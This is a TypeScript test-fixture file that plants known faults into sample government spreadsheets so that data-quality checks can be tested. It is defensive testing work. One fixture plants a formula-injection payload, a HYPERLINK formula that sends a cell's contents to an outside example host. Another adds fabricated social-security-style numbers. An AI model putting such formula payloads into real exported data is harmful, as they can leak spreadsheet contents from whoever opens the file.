import type { Example } from '../../../shared/check.ts';
import { parseArea } from '../../../shared/workbook/address.ts';

export type Sheet = Example['sheets'][number];
type Value = Sheet['rows'][number][number];

/** One fault put into a clean table, and where its check finds it. */
export interface Planted {
  check: string;
  fault: string;
  into: string;
  state: 'ca' | 'ct';
  plant(sheet: Sheet): Sheet;
  ranges: string[];
}

/** Puts values into cells, `{ B3: 'x' }`. */
const put =
  (cells: Record<string, Value>) =>
  (sheet: Sheet): Sheet => {
    const rows = sheet.rows.map((row) => [...row]);
    for (const [name, value] of Object.entries(cells)) {
      const { firstRow, firstColumn } = parseArea(name)!;
      rows[firstRow - 1]![firstColumn] = value;
    }
    return { ...sheet, rows };
  };

/** Writes every value of a column anew. */
const rewrite =
  (column: number, how: (value: Value, at: number) => Value) =>
  (sheet: Sheet): Sheet => ({
    ...sheet,
    rows: sheet.rows.map((row, at) =>
      at === 0 ? row : row.map((value, index) => (index === column ? how(value, at - 1) : value)),
    ),
  });

/** Moves a column to another place; formats are left behind. */
const move =
  (from: number, to: number) =>
  (sheet: Sheet): Sheet => ({
    ...sheet,
    formats: {},
    rows: sheet.rows.map((row) => {
      const others = row.filter((_, at) => at !== from);
      return [...others.slice(0, to), row[from] ?? null, ...others.slice(to)];
    }),
  });

const licences = 'Licenses of Home Care Agencies';
const pools = 'Inspections of Public Pools';
const influenza = 'Influenza by County and Month';
const budget = 'Budget and Spending by Program';
const crashes = 'Crashes on State Roads';
const schools = 'Enrollment by School';
const vehicles = 'Vehicles by ZIP Code and Fuel';
const payments = 'Payments to Vendors';
const monthNames = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const twelve = (fraction: number): string => {
  const minutes = Math.round(fraction * 1440);
  const hour = Math.floor(minutes / 60) % 24;
  return `${hour % 12 || 12}:${String(minutes % 60).padStart(2, '0')} ${hour < 12 ? 'AM' : 'PM'}`;
};

export const planted: Planted[] = [
  {
    check: 'no-pivots',
    fault: 'a pivot table beside the records',
    into: budget,
    state: 'ca',
    plant: (sheet) => ({ ...sheet, pivots: ['J2:L9'] }),
    ranges: ['J2:L9'],
  },
  {
    check: 'no-colour-coding',
    fault: 'rows in yellow',
    into: crashes,
    state: 'ct',
    plant: (sheet) => ({ ...sheet, fills: { 'A7:K7': 'FFFF00', 'A22:K23': 'FFFF00' } }),
    ranges: ['A7:K7', 'A22:K23'],
  },
  {
    check: 'no-colour-coding',
    fault: 'figures in two colours',
    into: influenza,
    state: 'ca',
    plant: (sheet) => ({ ...sheet, fills: { D9: 'FFFF00', 'D40:D41': 'theme 6' } }),
    ranges: ['D9', 'D40:D41'],
  },
  {
    check: 'header-plain-words',
    fault: 'names out of a database',
    into: payments,
    state: 'ct',
    plant: put({ A1: 'tbl_dcmnt_id', D1: 'acct_cd_desc' }),
    ranges: ['A1', 'D1'],
  },
  {
    check: 'identifier-first',
    fault: 'the number of the license in third place',
    into: licences,
    state: 'ct',
    plant: (sheet) => move(1, 10)(move(0, 2)(sheet)),
    ranges: ['B1'],
  },
  {
    check: 'date-first',
    fault: 'the month behind the county',
    into: influenza,
    state: 'ca',
    plant: move(0, 2),
    ranges: ['C1'],
  },
  {
    check: 'date-first',
    fault: 'the month behind the figures',
    into: influenza,
    state: 'ct',
    plant: move(0, 5),
    ranges: ['F1'],
  },
  {
    check: 'general-before-specific',
    fault: 'school before district',
    into: schools,
    state: 'ct',
    plant: move(1, 3),
    ranges: ['D1'],
  },
  {
    check: 'measures-last',
    fault: 'the figures in front',
    into: schools,
    state: 'ca',
    plant: move(5, 0),
    ranges: ['A1'],
  },
  {
    check: 'iso-dates',
    fault: 'months in letters',
    into: influenza,
    state: 'ca',
    plant: rewrite(0, (value) => {
      const [year, month] = String(value).split('-');
      return `${monthNames[Number(month) - 1]} ${year}`;
    }),
    ranges: ['A2:A113'],
  },
  {
    check: 'iso-dates',
    fault: 'days as one number',
    into: payments,
    state: 'ca',
    plant: (sheet) => ({ ...rewrite(1, (_, at) => 20_230_701 + (at % 28))(sheet), formats: {} }),
    ranges: ['B2:B65'],
  },
  {
    check: 'unambiguous-dates',
    fault: 'two orders of day and month',
    into: crashes,
    state: 'ct',
    plant: rewrite(1, (_, at) =>
      at === 30 ? '25/3/2023' : at === 31 ? '3/4/2023' : `3/${13 + (at % 18)}/2023`,
    ),
    ranges: ['B32:B33'],
  },
  {
    check: 'four-digit-years',
    fault: 'years of two digits',
    into: payments,
    state: 'ca',
    plant: rewrite(1, (_, at) => `${1 + (at % 12)}/${13 + (at % 15)}/${at % 9 === 4 ? '23' : '2023'}`),
    ranges: ['B6', 'B15', 'B24', 'B33', 'B42', 'B51', 'B60'],
  },
  {
    check: '24-hour-times',
    fault: 'times with AM and PM',
    into: crashes,
    state: 'ca',
    plant: rewrite(2, (value) => twelve(Number(value))),
    ranges: ['C2:C71'],
  },
  {
    check: 'plain-years',
    fault: 'years with separators',
    into: 'Bridges of the State Highways',
    state: 'ca',
    plant: (sheet) => ({ ...sheet, formats: { 'H2:H51': '#,##0' } }),
    ranges: ['H2:H51'],
  },
  {
    check: 'full-numbers',
    fault: 'amounts in millions',
    into: budget,
    state: 'ct',
    plant: put({ E4: '$1.2 million', E11: '3.4M' }),
    ranges: ['E4', 'E11'],
  },
  {
    check: 'percent-basis',
    fault: 'parts of 1 among parts of 100',
    into: budget,
    state: 'ct',
    plant: (sheet) =>
      put({ G5: 0.512, G9: 0.774 })(
        rewrite(6, (value) => (typeof value === 'number' ? Math.abs(value) : value))(sheet),
      ),
    ranges: ['G5', 'G9'],
  },
  {
    check: 'percent-basis',
    fault: 'a second column on another basis',
    into: vehicles,
    state: 'ca',
    plant: (sheet) => ({
      ...sheet,
      formats: {},
      rows: sheet.rows.map((row, at) =>
        at === 0 ? [...row.slice(0, 5), 'pct_of_zip', 'pct_leased'] : [...row, 5 + ((at * 37) % 80) + 0.5],
      ),
    }),
    ranges: ['F1', 'G1'],
  },
  {
    check: 'unique-identifiers',
    fault: 'a number used twice',
    into: crashes,
    state: 'ct',
    plant: put({ A40: 900_049 }),
    ranges: ['A40'],
  },
  {
    check: 'consistent-booleans',
    fault: 'Yes among Y and N',
    into: pools,
    state: 'ca',
    plant: put({ G12: 'Yes', G30: 'No', G31: 0 }),
    ranges: ['G12', 'G30:G31'],
  },
  {
    check: 'no-all-capitals',
    fault: 'a category in capitals',
    into: crashes,
    state: 'ct',
    plant: rewrite(6, (value) => String(value).toUpperCase()),
    ranges: ['G2:G71'],
  },
  {
    check: 'no-control-characters',
    fault: 'a letter of no width and a tab',
    into: pools,
    state: 'ca',
    plant: put({ C8: 'City\u200b Pool', J20: 'Gauge\treads low' }),
    ranges: ['C8', 'J20'],
  },
  {
    check: 'possible-coordinates',
    fault: 'swapped, and at 0',
    into: crashes,
    state: 'ct',
    plant: put({ I10: -72.6, J10: 41.5, I20: 0, J20: 0 }),
    ranges: ['I10', 'J10', 'I20', 'J20'],
  },
  {
    check: 'possible-zip-codes',
    fault: 'a digit missing, and one of another state',
    into: licences,
    state: 'ca',
    plant: put({ I4: '90001', J4: '9021', I9: 'CA', J9: '06001' }),
    ranges: ['J4', 'J9'],
  },
  {
    check: 'possible-states',
    fault: 'no such state',
    into: payments,
    state: 'ca',
    plant: put({ H5: 'CF', H8: 'Calif' }),
    ranges: ['H5', 'H8'],
  },
  {
    check: 'possible-emails',
    fault: 'addresses without a domain and with a blank',
    into: licences,
    state: 'ct',
    plant: (sheet) =>
      put({ K1: 'email', K6: 'office@agency', K7: 'office agency@example.org' })(
        rewrite(
          10,
          (_, at) => `office${at}@example.org${at % 5 === 0 ? '; billing@example.org' : ''}`,
        )(sheet),
      ),
    ranges: ['K6'],
  },
  {
    check: 'possible-links',
    fault: 'a slip in the scheme, and a file on a server',
    into: licences,
    state: 'ca',
    plant: put({ K6: 'htps://agency.example.org', K7: '\\\\server\\share\\list.pdf' }),
    ranges: ['K6:K7'],
  },
  {
    check: 'uniform-addresses',
    fault: 'streets in full among shortened ones',
    into: licences,
    state: 'ca',
    plant: put({ G3: '12 Main Street', G9: '60 Elm Street, Suite 2' }),
    ranges: ['G3', 'G9'],
  },
  {
    check: 'no-formula-injection',
    fault: 'a formula as text',
    into: pools,
    state: 'ct',
    plant: put({ J5: '=HYPERLINK("http://example.com/?"&A2,"more")', J6: '+SUM(1;2)' }),
    ranges: ['J5:J6'],
  },
  {
    check: 'consistent-categories',
    fault: 'a slip of the fingers',
    into: crashes,
    state: 'ct',
    plant: (sheet) =>
      put({ G21: 'Ovrecast' })(rewrite(6, (value, at) => (at % 4 === 0 ? 'Overcast' : value))(sheet)),
    ranges: ['G21'],
  },
  {
    check: 'possible-coordinates',
    fault: 'a point the wrong way round',
    into: 'Ratings of Bridge Parts',
    state: 'ca',
    plant: put({ F9: 'POINT (36.5 -119.5)' }),
    ranges: ['F9'],
  },
  {
    check: 'one-kind-per-column',
    fault: 'a remark among ratings',
    into: 'Ratings of Bridge Parts',
    state: 'ca',
    plant: put({ D9: 'see report' }),
    ranges: ['D9'],
  },
  {
    check: 'direct-identifiers',
    fault: 'social security numbers of drivers',
    into: crashes,
    state: 'ct',
    plant: (sheet) => ({
      ...sheet,
      rows: sheet.rows.map((row, at) => [
        ...row,
        at === 0 ? 'driver_ssn' : `219-${String(10 + at)}-${String(4000 + at)}`,
      ]),
    }),
    ranges: ['L2:L71'],
  },
];
